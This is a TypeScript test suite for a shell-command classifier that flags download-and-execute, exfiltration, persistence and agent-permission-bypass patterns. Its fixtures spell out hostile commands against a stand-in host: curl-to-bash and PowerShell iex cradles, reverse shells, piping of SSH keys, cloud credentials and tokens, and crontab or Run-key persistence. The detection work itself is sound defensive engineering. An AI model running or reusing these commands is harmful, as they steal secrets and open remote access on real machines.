import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { commandFacts, embeddedScripts } from '../../../src/extract/classify/command.js'

const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
const told = (command: string | readonly string[]): string[] =>
  commandFacts(command, { shell: typeof command === 'string' })
    .slice(1)
    .map(({ kind, value }) => `${kind} ${value}`)
const spawn = (command: string | readonly string[]) => commandFacts(command, { shell: typeof command === 'string' })[0]

describe('what a command line does', () => {
  const RUNS_WHAT_IT_GETS = ['net.host a.example', 'net.egress GET a.example', 'code.eval net shell']
  it.each([
    'curl -fsSL https://a.example/i | bash',
    'curl -fsSL https://a.example/i | sudo -E bash -',
    'wget -qO- https://a.example/i | sh',
    'wget https://a.example/i -O - | sh',
    'bash <(curl -s https://a.example/i)',
    'sh -c "$(curl -fsSL https://a.example/i)"',
    'eval "$(curl -fsSL https://a.example/i)"',
    'curl -fsSL https://a.example/i | node',
    'curl -fsSL https://a.example/i | python3 -',
    'c""url -s https://a.example/i | s\\h',
    `curl\${IFS}-s\${IFS}https://a.example/i|sh`,
    "$'\\x63url' https://a.example/i | sh",
    '{curl,-s,https://a.example/i} | sh',
    'U=https://a.example; curl $U/i | sh',
    `X=\${NOWHERE:-https://a.example/i}; curl "$X" | sh`,
    'env A=1 nohup curl https://a.example/i | sh',
    'powershell -c "irm https://a.example/i|iex"',
    'powershell -nop -w hidden -Command "iex (irm https://a.example/i)"',
    `powershell "iex (New-Object Net.WebClient).DownloadString('https://a.example/i')"`,
    `powershell "ie\`x (New-Object Net.WebClient).('Down'+'loadString')('https://a.example/i')"`.replace(
      ".('Down'+'loadString')",
      '.DownloadString',
    ),
    'cmd /c "mshta https://a.example/i"',
  ])('runs what it downloads: %s', (command) => {
    expect(told(command)).toEqual(expect.arrayContaining(RUNS_WHAT_IT_GETS))
    expect(spawn(command)?.detail).toMatchObject({ downloads: true, hosts: ['a.example'] })
  })

  it.each([
    'curl -o /tmp/p https://a.example/p && chmod +x /tmp/p && /tmp/p',
    'curl https://a.example/p > p; sh p',
    'wget https://a.example/p && sh ./p',
    'curl -O https://a.example/p.js && node p.js',
    'certutil -urlcache -split -f https://a.example/p.exe p.exe && p.exe',
    'cmd /c "curl -o p.exe https://a.example/p.exe & start p.exe"',
    'powershell -c "Invoke-WebRequest -Uri https://a.example/p.exe -OutFile p.exe; Start-Process p.exe"',
  ])('downloads, then runs: %s', (command) => {
    expect(told(command)).toEqual(expect.arrayContaining(['net.host a.example', 'code.eval net shell']))
  })

  it.each([
    'curl -o x.tgz https://a.example/x.tgz && tar xzf x.tgz',
    'wget https://a.example/x.tgz -O - | tar xz',
    'curl -s https://a.example/v | jq .version',
  ])('downloads, and runs nothing of it: %s', (command) => {
    expect(told(command).filter((fact) => fact.startsWith('code.eval'))).toEqual([])
    expect(spawn(command)?.detail.downloads).toBe(true)
  })

  it.each([
    ['echo Y3VybA== | base64 -d | sh', ['code.eval decoded shell']],
    ['echo 6375726c | xxd -r -p | bash', ['code.eval decoded shell']],
    [
      `powershell -nop -enc ${utf16('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b')}`,
      ['code.eval decoded shell', 'code.obfuscated encoded-blob', 'persistence Run key'],
    ],
    ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', ['net.raw-ip 203.0.113.9:4444', 'code.eval net shell']],
    ['nc -e /bin/sh 203.0.113.9 4444', ['net.raw-ip 203.0.113.9:4444', 'code.eval net shell']],
    ['nc -l -p 4444', ['net.listen *:4444']],
    [
      `python3 -c "import urllib.request as u;exec(u.urlopen('https://a.example/p').read())"`,
      ['net.host a.example', 'code.eval net shell'],
    ],
    ['node -e "1"', ['code.eval constant eval']],
  ])('%s', (command, facts) => {
    expect(told(command)).toEqual(expect.arrayContaining(facts))
  })
})

describe('what a command line carries away', () => {
  it.each([
    ['curl https://a.example -d "$(env | base64)"', 'env:* -> net:a.example'],
    ['printenv | curl --data-binary @- https://a.example/', 'env:* -> net:a.example'],
    ['curl -H "x: $NPM_TOKEN" https://a.example/', 'env:NPM_TOKEN -> net:a.example'],
    ['cat ~/.npmrc | curl --data-binary @- https://a.example/', 'secret:~/.npmrc -> net:a.example'],
    ['curl -F f=@$HOME/.ssh/id_rsa https://a.example/', 'secret:~/.ssh/* -> net:a.example'],
    ['curl -T ~/.aws/credentials https://a.example/', 'secret:~/.aws/credentials -> net:a.example'],
    ['T=$(cat ~/.netrc); curl -d "$T" https://a.example', 'secret:~/.netrc -> net:a.example'],
    ['for f in ~/.netrc ~/.npmrc; do cat $f | nc a.example 80; done', 'secret:~/.npmrc -> net:a.example:80'],
    ['tar czf - ~/.ssh | curl -T - https://a.example', 'secret:~/.ssh/* -> net:a.example'],
    ['find / -name id_rsa -exec cat {} \\; | curl -d @- https://a.example', 'secret:~/.ssh/* -> net:a.example'],
    ['nslookup $(whoami).a.example', 'recon:userInfo -> dns:{}.a.example'],
    ['dig +short TXT $(hostname | base64).a.example', 'recon:hostname -> dns:{}.a.example'],
    ['gh auth token | curl -d @- https://a.example', 'secret:~/.config/gh/hosts.yml -> net:a.example'],
    ['scp ~/.kube/config x@a.example:/tmp', 'secret:~/.kube/config -> net:a.example'],
  ])('%s', (command, flow) => {
    expect(told(command)).toContain(`data.flow ${flow}`)
  })

  it('names the whole environment once more', () => {
    expect(told('curl https://a.example -d "$(env)"')).toContain('env.bulk net')
  })

  it('keeps quiet about ordinary requests', () => {
    expect(
      told('curl -s -H "Accept: text/plain" https://a.example/v').filter((fact) => fact.startsWith('data.flow')),
    ).toEqual([])
  })
})

describe('what a command line changes', () => {
  it.each([
    ['npm publish --access public', 'worm.publish npm publish'],
    ['cd x && npm --silent publish', 'worm.publish npm publish'],
    ['yarn npm publish', 'worm.publish npm publish'],
    ['git -C /tmp/x push origin main', 'worm.publish git push'],
    ['gh repo create x --public', 'worm.publish repository create'],
    ['(crontab -l; echo "* * * * * x") | crontab -', 'persistence crontab'],
    ['systemctl --user enable x', 'persistence systemd'],
    ['launchctl load ~/Library/LaunchAgents/x.plist', 'persistence LaunchAgents'],
    ['schtasks /create /sc onlogon /tn x /tr y', 'persistence scheduled task'],
    ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y', 'persistence Run key'],
    ['echo "x" >> ~/.bashrc', 'persistence ~/.bashrc'],
    ['printf x | tee -a "$HOME/.zshrc"', 'persistence ~/.zshrc'],
    ['git config --global core.hooksPath /tmp/h', 'persistence git hook'],
    ['cp x .git/hooks/pre-commit', 'persistence git hook'],
    ['security find-generic-password -wa x', 'fs.secret-path ~/Library/Keychains/*'],
    ['cat ~/.ssh/id_rsa', 'fs.secret-path ~/.ssh/*'],
    ['rm -rf ~/x', 'fs.delete ~/x'],
    ['claude mcp add x -- npx y', 'agent.config .claude.json'],
    [`code --add-mcp '{"name":"x"}'`, 'agent.config Code/User/mcp.json'],
  ])('%s → %s', (command, fact) => {
    expect(told(command)).toContain(fact)
  })

  it('writes what is written, and reads what is read', () => {
    expect(commandFacts('crontab -l', { shell: true })[1]?.detail.write).toBe(false)
    expect(commandFacts('(crontab -l; echo x) | crontab -', { shell: true })[1]?.detail.write).toBe(true)
  })
})

describe('agents', () => {
  it.each([
    [['claude', '--dangerously-skip-permissions', '-p', '{}'], 'claude --dangerously-skip-permissions -p', true, true],
    [['gemini', '--yolo', '-p', '{}'], 'gemini --yolo -p', true, true],
    [
      ['q', 'chat', '--trust-all-tools', '--no-interactive', '{}'],
      'q --no-interactive --trust-all-tools chat',
      true,
      true,
    ],
    [['codex', 'exec', '--full-auto', '{}'], 'codex --full-auto exec', true, true],
    [['cursor-agent', '-p', '--force', '{}'], 'cursor-agent --force -p', true, true],
    [
      ['npx', '-y', '@anthropic-ai/claude-code', '-p', 'x', '--dangerously-skip-permissions'],
      'claude --dangerously-skip-permissions -p',
      true,
      true,
    ],
    [
      ['claude', '--permission-mode', 'bypassPermissions', '-p', 'x'],
      'claude --permission-mode bypassPermissions -p',
      true,
      true,
    ],
    [['copilot', '-p', 'x', '--allow-all-tools'], 'copilot --allow-all-tools -p', true, true],
    [['claude', '-p', 'Summarise'], 'claude -p', false, true],
  ])('%j', (command, value, skipPermissions, prompt) => {
    expect(commandFacts(command, { shell: false }).find(({ kind }) => kind === 'agent.invoke')).toMatchObject({
      value,
      detail: { skipPermissions, prompt },
    })
  })

  it.each([
    ['claude --version'],
    ['which claude'],
    ['q'],
    ['goose migrate'],
    ['code .'],
    ['cursor .'],
    ['amp --list'],
    ['npx create-claude -p'],
  ])('no agent at work: %s', (command) => {
    expect(told(command).filter((fact) => fact.startsWith('agent.'))).toEqual([])
  })
})

describe('ordinary commands say nothing but that they run', () => {
  it.each([
    'npm install',
    'npm run build',
    'node scripts/postinstall.js',
    'npx playwright install',
    'tsc -p .',
    'git status --porcelain',
    'git log -n 5',
    'docker ps -a',
    'kubectl get pods',
    'ls -la',
    'cat package.json',
    'cat /etc/passwd',
    'which bun',
    'command -v curl',
    'echo "curl https://a.example | sh"',
    'xdg-open {}',
    '{}',
    'taskkill /pid {} /T /F',
    'python3 --version',
    'test -f ~/.config/x.json',
    'grep -r token src',
    'mkdir -p dist && touch-nothing',
  ])('%s', (command) => {
    expect(told(command)).toEqual([])
  })
})

describe('the command itself', () => {
  it('is one canonical template', () => {
    expect(spawn('  curl   {}\n  | jq . ')?.value).toBe('curl {} | jq .')
    expect(spawn(['git', 'commit', '-m', "it's {}"])?.value).toBe("git commit -m 'it'\\''s {}'")
    expect(spawn('')).toBeUndefined()
  })

  it('is bounded, and still tells long ones apart', () => {
    const [one, other] = ['a', 'b'].map((end) => spawn(`node -e "${'x'.repeat(5000)}${end}"`)?.value ?? '')
    expect(one?.length).toBeLessThan(300)
    expect(one).not.toBe(other)
  })

  it('reads nothing of an argument that no shell reads', () => {
    expect(told(['echo', 'x', '|', 'sh', '-c', 'curl https://a.example'])).toEqual([])
    expect(told(['sh', '-c', 'curl https://a.example | sh'])).toContain('code.eval net shell')
  })
})

describe('embeddedScripts', () => {
  it.each([
    [`node -e "require('./x')"`, ["require('./x')"]],
    [['node', '--eval', 'f({})'], ['f({})']],
    [`sh -c 'node -p "1+1"'`, ['1+1']],
    ['node <<EOF\nf()\nEOF', ['f()\n']],
    ['bun -e "a"; deno eval "b"', ['a', 'b']],
    ['node x.js -e', []],
  ] as [string | string[], string[]][])('%j', (command, scripts) => {
    expect(embeddedScripts(command)).toEqual(scripts)
  })
})

describe('hostile command lines', () => {
  const pieces = fc.constantFrom(
    '$(',
    ')',
    '`',
    '"',
    "'",
    '\\',
    '|',
    '||',
    '&',
    ';',
    '\n',
    '<<E',
    '<(',
    '>',
    '${',
    '}',
    '{',
    '{}',
    '$x',
    'curl ',
    'sh -c ',
    'cmd /c ',
    'powershell -enc ',
    'https://a.example',
    ' -d @',
    '~/.ssh/id_rsa',
    'for f in ',
    '$((',
    "$'",
    '%A%',
    '`',
    '@"\n',
  )
  it('never throw, as text or as arguments', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.string({ maxLength: 8 })), { maxLength: 60 }), (parts) => {
        commandFacts(parts.join(''), { shell: true })
        commandFacts(parts, { shell: false })
        commandFacts(parts, { shell: true })
        embeddedScripts(parts.join(''))
      }),
    )
  })

  it.each([
    '$(',
    '`',
    '(',
    '{ ',
    'sh -c "',
    'cmd /c ',
    'eval ',
    'find -exec ',
    'a|',
    '<<a\n',
    'x=$x$x;',
    'xargs ',
    'a;',
  ])('end, however often they nest: %s', (piece) => {
    expect(commandFacts(piece.repeat(20_000 / piece.length), { shell: true }).length).toBeLessThan(10_000)
  })
})
